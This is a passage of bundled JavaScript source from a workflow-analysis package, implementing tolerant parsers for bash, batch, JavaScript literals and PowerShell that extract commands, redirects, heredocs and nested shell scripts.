        const condition = CONDITIONS.get(kind);
        const place = {
            ...outer,
            group,
            conditions: condition ? [...outer.conditions, condition] : outer.conditions,
            inFunction: this.functionName ?? outer.inFunction,
        };
        this.functionName = undefined;
        this.open.push({ kind, closer, start, place, group, stages: this.stages });
        this.stages = [];
    }
    closeGroup(end) {
        this.linkStages();
        const { group, start, stages } = this.open.pop();
        group.end = this.from.place(start, end).end;
        const outer = this.open[this.open.length - 1];
        const into = outer ? outer.group.commands : this.commands;
        for (const command of group.commands)
            into.push(command);
        this.stages = stages;
        this.draft = { start, end, words: [], redirects: group.redirects, closed: group };
    }
    openParenthesis() {
        const { draft } = this;
        this.at++;
        if (!draft) {
            this.openGroup("subshell", ")", this.at - 1);
        }
        else if (draft.words.length === 1 && this.from.text[this.at] === ")") {
            this.functionName = draft.words[0]?.text;
            this.draft = undefined;
            this.at++;
        }
        else
            this.endCommand();
    }
    closeParenthesis() {
        this.at++;
        if (this.open[this.open.length - 1]?.kind === "case") {
            this.dropPattern();
            return;
        }
        this.endCommand();
        if (this.open[this.open.length - 1]?.closer === ")")
            this.closeGroup(this.at);
        else
            this.linkStages();
    }
    /** What was read as a command, or as a pipeline of them, is a pattern of `case`. */
    dropPattern() {
        this.draft = undefined;
        const into = this.open[this.open.length - 1]?.group.commands ?? this.commands;
        while (this.stages.length > 0) {
            const stage = this.stages.pop();
            if (into[into.length - 1] === stage)
                into.pop();
            const { commands } = this.collected;
            if (commands[commands.length - 1] === stage)
                commands.pop();
        }
    }
    pipe() {
        const { text } = this.from;
        if (text[this.at + 1] === "|") {
            this.endPipeline();
            this.at++;
            return;
        }
        this.endCommand();
        this.at += text[this.at + 1] === "&" ? 2 : 1;
    }
    endPipeline() {
        this.endCommand();
        this.linkStages();
        this.at++;
    }
    linkStages() {
        linkStages(this.stages);
        this.stages = [];
    }
    endCommand() {
        const { draft } = this;
        this.draft = undefined;
        if (!draft)
            return;
        if (draft.closed) {
            this.stages.push(draft.closed);
            return;
        }
        const assignments = [];
        let first = 0;
        while (first < draft.words.length) {
            const assignment = this.assignment(draft.words[first]);
            if (!assignment)
                break;
            assignments.push(assignment);
            first++;
        }
        const command = {
            kind: "command",
            ...this.from.place(draft.start, draft.end),
            name: draft.words[first],
            args: draft.words.slice(first + 1),
            assignments,
            redirects: draft.redirects,
            place: this.inner,
            pipeline: undefined,
        };
        this.collected.commands.push(command);
        const group = this.open[this.open.length - 1];
        (group ? group.group.commands : this.commands).push(command);
        this.stages.push(command);
    }
    assignment(word) {
        const match = split_ASSIGNMENT.exec(word.text);
        if (!match)
            return undefined;
        const value = word.after(match[0].length);
        return {
            start: word.start,
            end: word.end,
            name: match[1],
            append: match[2] === "+",
            values: value ? [value] : [],
        };
    }
    isRedirect() {
        const { text } = this.from;
        if (!this.isPlain())
            return false;
        let at = this.at;
        while (at < this.at + 3 && text.charCodeAt(at) >= 48 && text.charCodeAt(at) <= 57)
            at++;
        const char = text[at];
        if (char === "<" || char === ">")
            return text[at + 1] !== "(" || at > this.at;
        return char === "&" && at === this.at && text[at + 1] === ">";
    }
    redirect() {
        const { text } = this.from;
        const start = this.at;
        const draft = this.begin(start);
        const match = REDIRECT.exec(text.slice(start, start + 8));
        this.at += match[0].length;
        const operatorAt = start + match[1].length;
        const operator = match[2];
        while (text[this.at] === " " || text[this.at] === "\t")
            this.at++;
        const char = text[this.at] ?? "\n";
        let target;
        const isWord = !this.isPlain() || !"\r\n;&|()<>".includes(char) || this.isSubstitution();
        if (this.at < this.limits.end && isWord) {
            const word = this.readWord();
            target = new SplitWord(this.from, word.range, word.substitutions);
        }
        const end = Math.min(this.at, this.limits.end);
        const heredoc = operator.startsWith("<<") && operator !== "<<<" ? this.splitter.heredocOf(operatorAt) : undefined;
        draft.redirects.push({
            ...this.from.place(start, end),
            operator,
            descriptor: match[1] === "" ? undefined : match[1],
            target,
            heredoc: heredoc && {
                body: this.from.place(heredoc.body.start, heredoc.body.end),
                delimiter: target?.literal ?? "",
                quoted: target !== undefined && /['"\\]/.test(target.text),
                content: this.heredocContent(heredoc.body),
            },
        });
        draft.end = end;
    }
    heredocContent(body) {
        const { substitutions } = this.from.scan;
        const inside = [];
        const first = this.depth < split_MAX_DEPTH ? firstFrom(substitutions, body.start) : substitutions.length;
        for (let index = first; index < substitutions.length; index++) {
            const span = substitutions[index];
            if (span.start >= body.end)
                break;
            const last = inside[inside.length - 1];
            if (last && span.start < last.span.end)
                continue;
            const place = { ...this.inner, inSubstitution: true, group: undefined };
            const { commands } = this.splitter.range(span.body, place, index + 1, this.depth + 1);
            inside.push({ span, commands });
        }
        return new SplitWord(this.from, body, inside);
    }
}
const REDIRECT = /^(\d*)(&>>|&>|<<<|<<-?|<>|<&|>>|>\||>&|<|>)/;
/** Index of the first range that begins at `offset` or after it. */
function firstFrom(ranges, offset) {
    let low = 0;
    let high = ranges.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (ranges[middle].start < offset)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/read.js






/** How deep texts of `bash -c` and `eval` are read. */
const MAX_NESTING = 4;
/** The commands of a bash or sh script. Never throws. */
function readBash(source) {
    const collected = { commands: [], groups: [], knowsPlaces: true };
    readText(source, source.masked, unmoved, TOP_PLACE, collected);
    // The list grows while nested texts are found.
    for (let index = 0; index < collected.commands.length; index++) {
        readNested(source, collected.commands[index], collected);
    }
    collected.commands.sort((a, b) => a.start - b.start);
    return collected;
}
/** The commands of a script in a language that resembles a shell; nothing nested is looked into. */
function readWords(source) {
    const collected = { commands: [], groups: [], knowsPlaces: false };
    splitScript(source, source.masked, unmoved, TOP_PLACE, collected);
    collected.commands.sort((a, b) => a.start - b.start);
    return collected;
}
function readText(source, masked, placement, place, collected) {
    const tree = parseBash(masked);
    if (!tree) {
        collected.knowsPlaces = false;
        splitScript(source, masked, placement, place, collected);
        return;
    }
    const before = { commands: collected.commands.length, groups: collected.groups.length };
    try {
        convertScript(tree, source, masked, placement, place, collected);
    }
    catch (error) {
        // Trees may be deeper than our stack; whatever else goes wrong, the words of the script are still there.
        if (!(error instanceof RangeError))
            throw error;
        collected.commands.length = before.commands;
        collected.groups.length = before.groups;
        collected.knowsPlaces = false;
        splitScript(source, masked, placement, place, collected);
    }
}
function readNested(source, command, collected) {
    if (nestingOf(command) >= MAX_NESTING)
        return;
    const nested = nestedScript(command, source);
    if (!nested)
        return;
    const place = {
        ...TOP_PLACE,
        conditions: command.place.conditions,
        inFunction: command.place.inFunction,
        nestedIn: command,
    };
    readText(source, nested.text, nested.placement, place, collected);
}
/** The script that a command runs, where it is there word for word; variables in it are left to the inner shell. */
function nestedScript(command, source) {
    const word = nestedText(command);
    if (word) {
        const made = word.literal === undefined ? undefined : { text: word.literal, placement: madeFrom(word) };
        return quotedBody(word, source) ?? made;
    }
    const heredoc = inputOfShell(command);
    return heredoc && bodyOf(source, heredoc.body, !heredoc.quoted);
}
function nestingOf(command) {
    let depth = 0;
    for (let at = command.place.nestedIn; at; at = at.place.nestedIn)
        depth++;
    return depth;
}
const SHELLS = new Set(["bash", "sh", "dash", "zsh", "ksh", "ash"]);
/** The word that a command runs as a script: after `bash -c` (also `-ec`, `-lc`), or the one argument of `eval`. */
function nestedText(command) {
    const { name, args } = effectiveCommand(command);
    const program = name?.literal;
    if (program === undefined)
        return undefined;
    if (program === "eval")
        return args.length === 1 ? args[0] : undefined;
    if (!SHELLS.has(program.slice(program.lastIndexOf("/") + 1)))
        return undefined;
    for (let index = 0; index < args.length; index++) {
        const option = args[index]?.literal;
        if (option === undefined || !/^[-+]/.test(option))
            return undefined;
        if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(option))
            return args[index + 1];
        if (/^[-+]o$/.test(option))
            index++;
    }
    return undefined;
}
/** The here-document that a shell reads as its script: `bash <<EOF`, `sudo sh -es <<EOF`. */
function inputOfShell(command) {
    const found = command.redirects.findLast(({ heredoc }) => heredoc)?.heredoc;
    if (!found)
        return undefined;
    const { name, args } = effectiveCommand(command);
    const program = name?.literal ?? "";
    const isOption = ({ literal }) => literal !== undefined && /^[-+]/.test(literal);
    const readsInput = args.every(isOption) || args.some(({ literal }) => /^-[a-zA-Z]*s$/.test(literal ?? ""));
    return SHELLS.has(program.slice(program.lastIndexOf("/") + 1)) && readsInput ? found : undefined;
}
/** What stands between the quotes, when the word is one quoted text. */
function quotedBody(word, source) {
    const start = word.start + 1;
    const end = word.end - 1;
    const quote = source.masked[word.start];
    if (end < start || source.masked[end] !== quote)
        return undefined;
    if (quote === "'") {
        return source.masked.slice(start, end).includes("'") ? undefined : bodyOf(source, { start, end }, false);
    }
    const isQuoted = quote === '"' && word.parts.every(({ quoted }) => quoted === "double");
    return isQuoted ? bodyOf(source, { start, end }, true) : undefined;
}
/** @param expands the outer shell takes one level of backslashes off it */
function bodyOf(source, { start, end }, expands) {
    const raw = source.masked.slice(start, end);
    const text = expands ? raw.replace(/\\([$`"\\])/g, "$1") : raw;
    return { text, placement: text === raw ? cutAt(unmoved, start) : unescaped(unmoved, raw, text, start) };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/cmd/read.js



/** Commands and quotes of a batch script, found by one tolerant pass. Never throws. */
function readCmd(source) {
    return new CmdReader(source).run();
}
const read_VARIABLE = /%([A-Za-z_#$@][^%\s:=]{0,100})(:[^%\n]{0,200})?%|!([A-Za-z_#$@][^!\s:=]{0,100})(:[^!\n]{0,200})?!|%%?(~[a-z]*)?([A-Za-z0-9*])/iy;
const read_REDIRECT = /([0-9]?)(>>|>|<)(&[0-9])?/y;
const read_ASSIGNMENT = /^\s*(?:\/[aApP]\s+)?"?([^=\s"]+)=/;
const read_MAX_DEPTH = 100;
const MAX_HEADER = 1000;
class CmdReader {
    source;
    text;
    recorder = new RegionRecorder();
    commands = [];
    groups = [];
    open = [];
    stages = [];
    draft;
    isConditional = false;
    at = 0;
    constructor(source) {
        this.source = source;
        this.text = source.masked;
    }
    run() {
        const { text } = this;
        while (this.at < text.length) {
            const char = text[this.at];
            if (" \t\r,;=".includes(char))
                this.at++;
            else if (char === "\n") {
                this.endPipeline();
                this.isConditional = false;
                this.at++;
            }
            else if (char === "^" && /[\r\n]/.test(text[this.at + 1] ?? ""))
                this.at += text[this.at + 1] === "\r" ? 3 : 2;
            else if (!this.draft && this.comment())
                continue;
            else if (char === "&" || char === "|")
                this.operator(char);
            else if (char === "(" && !this.draft?.words.length)
                this.openGroup();
            else if (char === ")" && this.open.length > 0)
                this.closeGroup();
            else if (this.redirectAt())
                this.redirect();
            else
                this.word();
        }
        this.endPipeline();
        while (this.open.length > 0)
            this.closeGroup();
        this.commands.sort((a, b) => a.start - b.start);
        return {
            knowsPlaces: false,
            commands: this.commands,
            groups: this.groups,
            regions: this.recorder.finish(text.length),
        };
    }
    get place() {
        const group = this.open[this.open.length - 1]?.group;
        if (!group && !this.isConditional)
            return TOP_PLACE;
        const conditions = group?.place.conditions ?? [];
        return { ...TOP_PLACE, group, conditions: this.isConditional ? [...conditions, "if-body"] : conditions };
    }
    /** `rem …` and `:: …` up to the end of the line; a label too. */
    comment() {
        const { text, at } = this;
        const isComment = text[at] === ":" || /^@?rem(?:\s|$)/i.test(text.slice(at, at + 5));
        if (!isComment)
            return false;
        this.recorder.enter(at, "comment");
        const end = text.indexOf("\n", at);
        this.at = end < 0 ? text.length : end;
        this.recorder.enter(this.at, "none");
        return true;
    }
    operator(char) {
        const isDouble = this.text[this.at + 1] === char;
        if (char === "|" && !isDouble)
            this.endCommand();
        else {
            this.endPipeline();
            if (isDouble)
                this.isConditional = true;
        }
        this.at += isDouble ? 2 : 1;
    }
    openGroup() {
        const start = this.at++;
        if (this.open.length >= read_MAX_DEPTH)
            return;
        const group = {
            kind: "block",
            start,
            end: start,
            name: undefined,
            words: [],
            redirects: this.draft?.redirects ?? [],
            commands: [],
            place: this.place,
            pipeline: undefined,
        };
        this.draft = undefined;
        this.groups.push(group);
        this.open.push({ group, stages: this.stages });
        this.stages = [];
    }
    closeGroup() {
        this.endCommand();
        this.linkStages();
        this.at = Math.min(this.at + 1, this.text.length);
        const { group, stages } = this.open.pop();
        group.end = this.at;
        const outer = this.open[this.open.length - 1]?.group.commands;
        if (outer)
            for (const command of group.commands)
                outer.push(command);
        this.stages = stages;
        this.draft = { start: group.start, end: this.at, words: [], redirects: group.redirects, closed: group };
    }
    begin() {
        this.draft ??= { start: this.at, end: this.at, words: [], redirects: [], closed: undefined };
        return this.draft;
    }
    redirectAt() {
        read_REDIRECT.lastIndex = this.at;
        return read_REDIRECT.test(this.text);
    }
    redirect() {
        const draft = this.begin();
        const start = this.at;
        read_REDIRECT.lastIndex = start;
        const match = read_REDIRECT.exec(this.text);
        this.at += match[0].length;
        while (this.text[this.at] === " " || this.text[this.at] === "\t")
            this.at++;
        const hasTarget = !match[3] && this.at < this.text.length && !"\r\n&|()<>".includes(this.text[this.at]);
        const target = hasTarget ? this.readWord() : undefined;
        draft.redirects.push({
            start,
            end: this.at,
            operator: match[3] ? ">&" : match[2],
            descriptor: match[1] === "" ? undefined : match[1],
            target,
            heredoc: undefined,
        });
        draft.end = this.at;
    }
    word() {
        const draft = this.draft;
        if (draft?.closed) {
            // `) else (`: the group is over.
            this.endCommand();
        }
        const start = this.at;
        const word = this.readWord();
        const isFirst = this.draft === undefined || this.draft.words.length === 0;
        const keyword = isFirst ? word.text.toLowerCase().replace(/^@/, "") : "";
        if (keyword === "if" || keyword === "for" || keyword === "else") {
            this.header(keyword);
            return;
        }
        this.draft ??= { start, end: start, words: [], redirects: [], closed: undefined };
        this.draft.words.push(word);
        this.draft.end = word.end;
    }
    /** Goes over the condition of `if` and the set of `for`: what follows is a command of its own. */
    header(keyword) {
        this.draft = undefined;
        this.isConditional = true;
        if (keyword === "else")
            return;
        const line = this.lineEnd();
        if (keyword === "for") {
            const found = /\bdo\b/i.exec(this.text.slice(this.at, line));
            this.skipTo(found ? this.at + found.index + 2 : line);
            return;
        }
        const condition = /^\s*(?:\/i\s+)?(?:not\s+)?(?:(?:exist|defined|errorlevel)\s+(?:"[^"\n]*"|\S+)|(?:"[^"\n]*"|[^\s"=]+)\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:"[^"\n]*"|\S+))/i.exec(this.text.slice(this.at, line));
        if (condition)
            this.skipTo(this.at + condition[0].length);
    }
    /** The end of the line, or a place in it that no person's condition reaches. */
    lineEnd() {
        const found = this.text.slice(this.at, this.at + MAX_HEADER).indexOf("\n");
        return found < 0 ? Math.min(this.at + MAX_HEADER, this.text.length) : this.at + found;
    }
    /** Moves on, and notes quotes on the way. */
    skipTo(end) {
        while (this.at < end) {
            if (this.text[this.at] === '"')
                this.quote(end);
            else
                this.at++;
        }
    }
    quote(limit) {
        const close = this.text.slice(this.at + 1, limit).search(/["\n]/);
        const end = close < 0 ? limit : this.at + 1 + close + (this.text[this.at + 1 + close] === '"' ? 1 : 0);
        this.recorder.enter(this.at, "double");
        this.at = end;
        this.recorder.enter(end, "none");
    }
    readWord() {
        const { text } = this;
        const start = this.at;
        let isQuoted = false;
        while (this.at < text.length) {
            const char = text[this.at];
            if (char === "\n")
                break;
            if (char === '"') {
                if (!isQuoted)
                    this.recorder.enter(this.at, "double");
                isQuoted = !isQuoted;
                this.at++;
                if (!isQuoted)
                    this.recorder.enter(this.at, "none");
                continue;
            }
            if (!isQuoted) {
                if (char === "^" && !/[\r\n]/.test(text[this.at + 1] ?? "\n")) {
                    this.at += 2;
                    continue;
                }
                if (" \t\r^&|<>".includes(char) || (char === ")" && this.open.length > 0))
                    break;
            }
            this.at++;
        }
        if (isQuoted)
            this.recorder.enter(this.at, "none");
        this.at = Math.min(Math.max(this.at, start + 1), text.length);
        return new CmdWord(this.source, { start, end: this.at });
    }
    endPipeline() {
        this.endCommand();
        this.linkStages();
    }
    linkStages() {
        linkStages(this.stages);
        this.stages = [];
    }
    endCommand() {
        const { draft } = this;
        this.draft = undefined;
        if (!draft)
            return;
        if (draft.closed) {
            this.stages.push(draft.closed);
            return;
        }
        const [name, ...args] = draft.words;
        const command = {
            kind: "command",
            start: draft.start,
            end: draft.end,
            name,
            args,
            assignments: name && /^@?set$/i.test(name.text) ? this.assignments(args) : [],
            redirects: draft.redirects,
            place: this.place,
            pipeline: undefined,
        };
        this.commands.push(command);
        this.open[this.open.length - 1]?.group.commands.push(command);
        this.stages.push(command);
    }
    /** `set NAME=value with blanks`, `set "NAME=value"`. */
    assignments(args) {
        const first = args[0];
        const last = args[args.length - 1];
        if (!first || !last)
            return [];
        const text = this.text.slice(first.start, last.end);
        const match = read_ASSIGNMENT.exec(text.slice(0, 1000));
        if (!match)
            return [];
        const { start } = first;
        const value = new CmdWord(this.source, { start: start + match[0].length, end: last.end });
        return [
            { start, end: last.end, name: match[1], append: false, values: value.end > value.start ? [value] : [] },
        ];
    }
}
class CmdWord {
    source;
    start;
    end;
    #parts;
    constructor(source, span) {
        this.source = source;
        this.start = span.start;
        this.end = span.end;
    }
    get text() {
        return this.source.text.slice(this.start, this.end);
    }
    get parts() {
        this.#parts ??= partsOf(this.source, this.start, this.end);
        return this.#parts;
    }
    get literal() {
        return literalOf(this.parts);
    }
}
function partsOf(source, start, end) {
    const text = source.masked;
    const parts = [];
    let quoted = "none";
    let value = "";
    let valueStart = start;
    let at = start;
    const flush = () => {
        if (value !== "")
            appendLiteral(parts, source, value, valueStart, at, quoted);
        value = "";
    };
    while (at < end) {
        const char = text[at];
        if (char === '"') {
            flush();
            quoted = quoted === "none" ? "double" : "none";
            valueStart = ++at;
            continue;
        }
        read_VARIABLE.lastIndex = at;
        const match = char === "%" || char === "!" ? read_VARIABLE.exec(text) : null;
        if (match && at + match[0].length <= end) {
            flush();
            const name = match[1] ?? match[3] ?? match[6];
            const operator = match[2] ?? match[4] ?? match[5];
            parts.push({ kind: "variable", start: at, end: at + match[0].length, quoted, name, operator, operand: [] });
            at += match[0].length;
            valueStart = at;
            continue;
        }
        if (char === "^" && quoted === "none" && at + 1 < end)
            at++;
        value += text[at];
        at++;
    }
    flush();
    return parts;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/javascript/lex.js


/**
 * String literals, templates, regular expressions and comments of a JavaScript program. Never throws.
 *
 * @see ECMAScript, section 12 "Lexical Grammar"
 */
function lexJavaScript(source) {
    return new JavaScriptLexer(source).run();
}
/** A `/` after one of these words begins a regular expression. */
const BEFORE_REGEX = new Set([
    "return",
    "typeof",
    "case",
    "in",
    "of",
    "delete",
    "void",
    "throw",
    "new",
    "do",
    "else",
    "await",
    "yield",
    "instanceof",
]);
const IDENTIFIER = /[A-Za-z0-9_$\u0080-\uffff]+/y;
const lex_MAX_DEPTH = 200;
/** Longer ones are divisions on one long line. */
const MAX_REGEX = 2000;
class JavaScriptLexer {
    source;
    text;
    recorder = new RegionRecorder();
    strings = [];
    templates = [];
    at = 0;
    /** Would a `/` here begin a regular expression? */
    isOperandNext = true;
    constructor(source) {
        this.source = source;
        this.text = source.masked;
    }
    run() {
        const { text } = this;
        while (this.at < text.length) {
            const template = this.templates[this.templates.length - 1];
            if (template?.braces === -1)
                this.templateText(template);
            else
                this.code(template);
        }
        while (this.templates.length > 0)
            this.endTemplate(text.length);
        this.strings.sort((a, b) => a.start - b.start);
        return { regions: this.recorder.finish(text.length), strings: this.strings };
    }
    get around() {
        return this.templates.length > 0 ? "template-expression" : "none";
    }
    code(template) {
        const { text, at } = this;
        const char = text[at];
        if (char === "'" || char === '"')
            this.string(char);
        else if (char === "`")
            this.openTemplate();
        else if (char === "/")
            this.slash();
        else if (char === "{" || char === "}") {
            if (template && char === "}" && template.braces === 0) {
                template.braces = -1;
                this.recorder.enter(at, "template");
            }
            else if (template)
                template.braces += char === "{" ? 1 : -1;
            this.isOperandNext = true;
            this.at++;
        }
        else if (char === ")" || char === "]") {
            this.isOperandNext = false;
            this.at++;
        }
        else if (/\s/.test(char))
            this.at++;
        else {
            IDENTIFIER.lastIndex = at;
            const word = IDENTIFIER.exec(text)?.[0];
            this.at += word?.length ?? 1;
            this.isOperandNext = word === undefined || BEFORE_REGEX.has(word);
        }
    }
    string(quote) {
        const { text } = this;
        const start = this.at;
        this.recorder.enter(start, quote === "'" ? "single" : "double");
        let end = start + 1;
        while (end < text.length && text[end] !== quote && text[end] !== "\n")
            end += text[end] === "\\" ? 2 : 1;
        const bodyEnd = Math.min(end, text.length);
        this.at = text[bodyEnd] === quote ? bodyEnd + 1 : bodyEnd;
        this.recorder.enter(this.at, this.around);
        this.add(start, start + 1, bodyEnd, quote, quote === "'" ? "single" : "double", true);
        this.isOperandNext = false;
    }
    openTemplate() {
        this.recorder.enter(this.at, "template");
        if (this.templates.length < lex_MAX_DEPTH)
            this.templates.push({ start: this.at, hasFields: false, braces: -1 });
        this.at++;
    }
    templateText(template) {
        const { text } = this;
        while (this.at < text.length) {
            const char = text[this.at];
            if (char === "\\")
                this.at += 2;
            else if (char === "`") {
                this.at++;
                this.endTemplate(this.at);
                return;
            }
            else if (char === "$" && text[this.at + 1] === "{") {
                this.at += 2;
                template.hasFields = true;
                template.braces = 0;
                this.isOperandNext = true;
                this.recorder.enter(this.at, "template-expression");
                return;
            }
            else
                this.at++;
        }
        this.at = Math.min(this.at, text.length);
    }
    endTemplate(end) {
        const { start, hasFields, braces } = this.templates.pop();
        const isClosed = braces === -1 && end - start > 1 && this.text[end - 1] === "`";
        this.add(start, Math.min(start + 1, end), isClosed ? end - 1 : end, "`", "template", !hasFields, end);
        this.recorder.enter(end, this.around);
        this.isOperandNext = false;
    }
    add(start, bodyStart, bodyEnd, quote, kind, mayBeStatic, end = this.at) {
        const isStatic = mayBeStatic && !holdsExpression(this.source.expressions, start, end);
        const body = this.text.slice(bodyStart, bodyEnd);
        this.strings.push({
            start,
            end,
            body: { start: bodyStart, end: bodyEnd },
            kind,
            quote,
            value: isStatic ? decode(body) : undefined,
        });
    }
    slash() {
        const { text, at } = this;
        const next = text[at + 1];
        if (next === "/" || next === "*") {
            this.recorder.enter(at, "comment");
            const close = next === "/" ? text.indexOf("\n", at) : text.indexOf("*/", at + 2);
            this.at = close < 0 ? text.length : next === "/" ? close : close + 2;
            this.recorder.enter(this.at, this.around);
        }
        else if (this.isOperandNext)
            this.regex();
        else {
            this.isOperandNext = true;
            this.at++;
        }
    }
    regex() {
        const { text } = this;
        const start = this.at;
        let isClass = false;
        let at = start + 1;
        const limit = Math.min(text.length, start + MAX_REGEX);
        while (at < limit && text[at] !== "\n") {
            const char = text[at];
            if (char === "\\")
                at++;
            else if (char === "[")
                isClass = true;
            else if (char === "]")
                isClass = false;
            else if (char === "/" && !isClass)
                break;
            at++;
        }
        if (text[at] !== "/") {
            // A division after all.
            this.at = start + 1;
            return;
        }
        this.recorder.enter(start, "regex");
        IDENTIFIER.lastIndex = at + 1;
        this.at = at + 1 + (IDENTIFIER.exec(text)?.[0].length ?? 0);
        this.recorder.enter(this.at, this.around);
        this.isOperandNext = false;
    }
}
const ESCAPES = new Map([
    ["n", "\n"],
    ["r", "\r"],
    ["t", "\t"],
    ["\n", ""],
]);
function decode(body) {
    if (!body.includes("\\"))
        return body;
    return body.replace(/\\([\s\S])/g, (_, char) => ESCAPES.get(char) ?? char);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/pwsh/read.js



/** Commands and quotes of a PowerShell script, found by one tolerant pass. Never throws. */
function readPwsh(source) {
    return new PwshReader(source).run();
}
/** Statements that begin with a word and have blocks; the condition is that of their blocks. */
const KEYWORDS = new Map([
    ["if", "if-body"],
    ["elseif", "if-body"],
    ["else", "else-body"],
    ["for", "loop-body"],
    ["foreach", "loop-body"],
    ["while", "loop-body"],
    ["do", "loop-body"],
    ["until", undefined],
    ["switch", "case-body"],
    ["function", undefined],
    ["filter", undefined],
    ["try", undefined],
    ["catch", "else-body"],
    ["finally", undefined],
    ["trap", "else-body"],
    ["param", undefined],
    ["begin", undefined],
    ["process", undefined],
    ["end", undefined],
]);
/** Words before an expression or a command that change nothing about what it is. */
const PREFIXES = new Set(["return", "throw", "exit"]);
const pwsh_read_MAX_DEPTH = 100;
const pwsh_read_VARIABLE = /\$(?:\{([^}\n]{1,200})\}|((?:[A-Za-z]+:)?[A-Za-z_][A-Za-z0-9_]*|[$?^]))/y;
const SPLAT = /@[A-Za-z_][A-Za-z0-9_]*/y;
const pwsh_read_REDIRECT = /([1-6*]?)(>>|>)(&[12])?/y;
class PwshReader {
    source;
    text;
    recorder = new RegionRecorder();
    commands = [];
    groups = [];
    at = 0;
    depth = 0;
    constructor(source) {
        this.source = source;
        this.text = source.masked;
    }
    run() {
        // A closing bracket without an opening one ends nothing.
        while (this.at < this.text.length) {
            this.statements(TOP_PLACE, "", []);
            this.at++;
        }
        this.commands.sort((a, b) => a.start - b.start);
        return {
            knowsPlaces: false,
            commands: this.commands,
            groups: this.groups,
            regions: this.recorder.finish(this.text.length),
        };
    }
    /** Reads statements up to `closer`, which is left to the caller. */
    statements(place, closer, into) {
        const { text } = this;
        let stages = [];
        let draft;
        // `& { … }`: what follows belongs to the whole of it.
        let called;
        let condition;
        const endCommand = () => {
            if (draft) {
                const command = this.finish(draft, place);
                into.push(command);
                stages.push(command);
            }
            draft = undefined;
            called = undefined;
        };
        const endPipeline = () => {
            endCommand();
            const all = stages;
            if (all.length > 1)
                all.forEach((stage, index) => {
                    stage.pipeline = { index, stages: all };
                });
            stages = [];
        };
        while (this.at < text.length) {
            const start = this.at;
            const char = text[start];
            if (closer !== "" && char === closer)
                break;
            if (this.blank(char))
                continue;
            if (this.comment(char))
                continue;
            if (char === "\n" || char === ";") {
                const isEmpty = draft === undefined && stages.length === 0;
                if (!isEmpty && !(char === "\n" && this.pipeFollows()))
                    endPipeline();
                this.at++;
            }
            else if (char === "|") {
                if (text[start + 1] === "|") {
                    endPipeline();
                    this.at += 2;
                }
                else {
                    endCommand();
                    this.at++;
                    this.skipNewlines();
                }
            }
            else if (char === "&") {
                this.at++;
                if (text[start + 1] === "&") {
                    endPipeline();
                    this.at++;
                }
                else if (expectsValue(draft))
                    draft = asCall(draft, start);
                else
                    endPipeline();
            }
            else if (char === "." && expectsValue(draft) && /\s/.test(text[start + 1] ?? "")) {
                draft = asCall(draft, start);
                this.at++;
            }
            else if (char === "," || (char === ")" && closer !== ")") || (char === "}" && closer !== "}")) {
                this.at++;
            }
            else if (char === "{" && (!draft || (draft.isCall && draft.words.length === 0)) && this.depth < pwsh_read_MAX_DEPTH) {
                const isCall = draft !== undefined;
                draft = undefined;
                const group = this.block(place, condition, into);
                if (isCall) {
                    called = group;
                    stages.push(group);
                }
                else
                    condition = undefined;
            }
            else if (called && this.redirectAt(start)) {
                called.redirects.push(this.redirect(place));
                called.end = this.at;
            }
            else if (called) {
                this.word(place, false); // an argument
            }
            else if (this.redirectAt(start)) {
                draft ??= newDraft(start, false);
                draft.redirects.push(this.redirect(place));
                draft.end = this.at;
            }
            else if (draft && this.assignmentAt(start) && this.startAssignment(draft)) {
                this.at += char === "=" ? 1 : 2;
            }
            else {
                const word = this.word(place, draft === undefined);
                const keyword = draft === undefined ? word.text.toLowerCase() : "";
                if (KEYWORDS.has(keyword)) {
                    endPipeline();
                    condition = KEYWORDS.get(keyword);
                    this.header(place, keyword, into);
                }
                else if (!PREFIXES.has(keyword)) {
                    draft ??= newDraft(start, false);
                    draft.words.push(word);
                    draft.end = this.at;
                }
            }
            if (this.at === start)
                this.at++;
        }
        endPipeline();
    }
    blank(char) {
        if (char === " " || char === "\t" || char === "\r") {
            this.at++;
            return true;
        }
        if (char === "`") {
            // A backtick at the end of a line continues it.
            const next = this.text[this.at + 1];
            if (next === "\n" || next === undefined)
                this.at += 2;
            else if (next === "\r")
                this.at += 3;
            else
                return false;
            this.at = Math.min(this.at, this.text.length);
            return true;
        }
        return false;
    }
    comment(char) {
        const { text, at } = this;
        const isBlock = char === "<" && text[at + 1] === "#";
        if (!isBlock && char !== "#")
            return false;
        this.recorder.enter(at, "comment");
        const end = isBlock ? text.indexOf("#>", at + 2) : text.indexOf("\n", at);
        this.at = end < 0 ? text.length : isBlock ? end + 2 : end;
        this.recorder.enter(this.at, "none");
        return true;
    }
    /** A line that begins with `|` goes on with the line before (PowerShell 7). */
    pipeFollows() {
        let at = this.at + 1;
        while (at < this.text.length && " \t\r\n".includes(this.text[at]))
            at++;
        return this.text[at] === "|" && this.text[at + 1] !== "|";
    }
    skipNewlines() {
        while (this.at < this.text.length && " \t\r\n".includes(this.text[this.at]))
            this.at++;
    }
    /** What stands between a keyword and its block: a condition in parentheses, a function's name. */
    header(place, keyword, into) {
        const { text } = this;
        while (this.at < text.length && " \t".includes(text[this.at]))
            this.at++;
        if (keyword === "function" || keyword === "filter") {
            while (this.at < text.length && /[\w:-]/.test(text[this.at]))
                this.at++;
        }
        while (this.at < text.length && /[\w \t-]/.test(text[this.at]) && keyword === "switch")
            this.at++;
        while (this.at < text.length && " \t".includes(text[this.at]))
            this.at++;
        if (text[this.at] !== "(" || this.depth >= pwsh_read_MAX_DEPTH)
            return;
        const condition = keyword.endsWith("if")
            ? "if-test"
            : keyword === "while"
                ? "loop-test"
                : undefined;
        this.at++;
        this.nested(condition ? read_under(place, condition) : place, ")", into);
    }
    block(place, condition, into) {
        const start = this.at;
        const commands = [];
        const group = {
            kind: "block",
            start,
            end: start,
            name: undefined,
            words: [],
            redirects: [],
            commands,
            place,
            pipeline: undefined,
        };
        this.groups.push(group);
        this.at++;
        this.nested({ ...(condition ? read_under(place, condition) : place), group }, "}", commands);
        group.end = this.at;
        for (const command of commands)
            into.push(command);
        return group;
    }
